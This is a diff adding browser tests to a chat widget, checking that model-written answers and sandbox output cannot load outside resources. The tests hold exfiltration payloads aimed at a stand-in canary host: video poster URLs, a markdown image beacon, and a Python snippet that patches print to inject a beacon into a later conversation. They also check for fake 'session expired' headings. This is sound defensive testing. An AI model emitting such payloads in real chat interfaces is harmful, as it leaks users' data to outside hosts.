@@ -156,6 +156,72 @@ describe('on a cross-origin-isolated page', { timeout: TIMEOUT_MS }, () => {
   });
 });
 
+/**
+ * Nothing leaves the page through the widget (issue 15): the sandbox and the model choose text,
+ * file names and output, and the page must never fetch what they name. Every non-local request is
+ * aborted and recorded by the test's context; none may go to the canary host.
+ */
+describe('nothing leaves the page through the widget', { timeout: TIMEOUT_MS }, () => {
+  const ctx = useServer(true);
+  const CANARY = 'canary.invalid';
+
+  async function openWithGuard(query: string) {
+    context = await browser.newContext({ viewport: { width: 1000, height: 900 } });
+    const blocked = await blockNonLocal(context);
+    const page = await context.newPage();
+    await page.goto(`${ctx.server.origin}${PAGE}?${query}`);
+    await waitForSandbox(page, '#chat0');
+    return { page, blocked };
+  }
+
+  /** Elements in the answers that could load something, and links to the canary. */
+  const loaders = (page: Page) =>
+    page.locator('#chat0').evaluate((host) => {
+      const root = host.shadowRoot!;
+      return {
+        media: root.querySelectorAll('.md :is(video, audio, source, track, picture, object, embed, iframe, frame, link, meta, base, input, svg, image, marquee)').length,
+        backgrounds: root.querySelectorAll('.md [background], .md [style], .md [srcset], .md [poster], .md [ping]').length,
+        canaryLinks: [...root.querySelectorAll('.md a')].filter((a) => (a.getAttribute('href') ?? '').includes('canary')).length,
+        fakeHeadings: [...root.querySelectorAll('.md :is(h1, h2, h3)')].filter((h) => /session expired/i.test(h.textContent ?? '')).length,
+      };
+    });
+
+  test('model text with media, backgrounds, srcset, styles, links and frames loads nothing', async () => {
+    const { page, blocked } = await openWithGuard('demo=/test/ui/pages/exfiltration.recording.json');
+    await demoReady(page);
+    await sendAndWait(page, '#chat0');
+    await page.waitForTimeout(500);
+    expect(blocked.filter((url) => url.includes(CANARY))).toEqual([]);
+    expect(await loaders(page)).toEqual({ media: 0, backgrounds: 0, canaryLinks: 0, fakeHeadings: 0 });
+  });
+
+  test('a file name and the output quoted by a recorded answer are shown as text', async () => {
+    const { page, blocked } = await openWithGuard('demo=/test/ui/pages/exfiltration.recording.json');
+    await demoReady(page);
+    await sendAndWait(page, '#chat0');
+    await page.waitForTimeout(500);
+    const text = await transcriptText(page, '#chat0');
+    expect(text).toContain('<video poster="http:&#47;&#47;canary.invalid&#47;file-name">');
+    expect(text).toContain('was not returned');
+    expect(text).toContain(`<video poster="http://${CANARY}/template-output"></video> ![pixel](http://${CANARY}/template-image)`);
+    expect(blocked.filter((url) => url.includes(CANARY))).toEqual([]);
+    expect(await loaders(page)).toEqual({ media: 0, backgrounds: 0, canaryLinks: 0, fakeHeadings: 0 });
+  });
+
+  test("a patched print in one conversation cannot send anything out through the next one's recorded answer", async () => {
+    const { page, blocked } = await openWithGuard('demo=/dist/demos/primes.json');
+    await demoReady(page);
+    await runInChat(page, `import builtins\n_print = builtins.print\nbuiltins.print = lambda *a, **k: _print('<video poster="http://${CANARY}/next-conversation"></video>', *a, **k)`, '#chat0');
+    await page.locator('#chat0 button[aria-label="New chat"]').click();
+    await demoReady(page);
+    await sendAndWait(page, '#chat0');
+    await page.waitForTimeout(500);
+    expect(await transcriptText(page, '#chat0')).toContain(`<video poster="http://${CANARY}/next-conversation"></video>`);
+    expect(blocked.filter((url) => url.includes(CANARY))).toEqual([]);
+    expect((await loaders(page)).media).toBe(0);
+  });
+});
+
 describe('on a page without COOP/COEP', { timeout: TIMEOUT_MS }, () => {
   const ctx = useServer(false);
 
